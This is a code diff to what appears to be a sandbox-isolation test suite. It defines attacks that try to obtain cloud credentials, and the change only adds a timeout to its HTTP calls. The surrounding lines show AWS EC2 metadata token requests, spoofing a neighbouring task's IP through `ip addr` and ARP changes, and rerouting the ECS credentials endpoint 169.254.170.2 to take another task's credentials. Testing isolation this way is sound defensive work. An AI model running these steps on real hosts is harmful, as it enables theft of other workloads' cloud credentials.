@@ -297,7 +297,7 @@ export const credentials: readonly Attack[] = [
         for (const url of urls) {
           const method = url.endsWith('token') ? 'PUT' : 'GET';
           const headers = { 'x-aws-ec2-metadata-token-ttl-seconds': '60' };
-          const tried = await box.http(url, `http://${address}${url}`, { method, headers });
+          const tried = await box.http(url, `http://${address}${url}`, { method, headers, patience: 1500 });
           // Without a route it is one's own endpoint that answers (and the task's own metadata).
           if (runtime === 'docker' || !url.endsWith('token')) tries.push(tried);
         }
@@ -342,7 +342,7 @@ export const credentials: readonly Attack[] = [
         );
         if (turned.refused !== undefined) throw new Error(turned.refused);
         const url = `http://169.254.170.2/v2/credentials/${neighbour.credentialsId}`;
-        tries.push(await box.http(`credentials, as ${localAddress}`, url, { localAddress }));
+        tries.push(await box.http(`credentials, as ${localAddress}`, url, { localAddress, patience: 1500 }));
       }
       box.sh('back', `arp -i eth0 -d 169.254.170.2; ip addr del ${neighbour.address}/32 dev eth0`);
       box.sh('back', `ip route del 169.254.170.2; ip route add ${before}`);
@@ -366,7 +366,8 @@ export const credentials: readonly Attack[] = [
       const before = box.sh('before', 'ip route show 169.254.170.2').got ?? '';
       const turned = box.sh('route', `ip route del 169.254.170.2; ip route add 169.254.170.2 via ${gateway}`);
       const tries = [...(turned.refused === undefined ? [] : [turned])];
-      tries.push(await box.http('credentials', `http://169.254.170.2/v2/credentials/${neighbour.credentialsId}`));
+      const url = `http://169.254.170.2/v2/credentials/${neighbour.credentialsId}`;
+      tries.push(await box.http('credentials', url, { patience: 1500 }));
       box.sh('back', `ip route del 169.254.170.2 && ip route add ${before}`);
       return tries;
     },
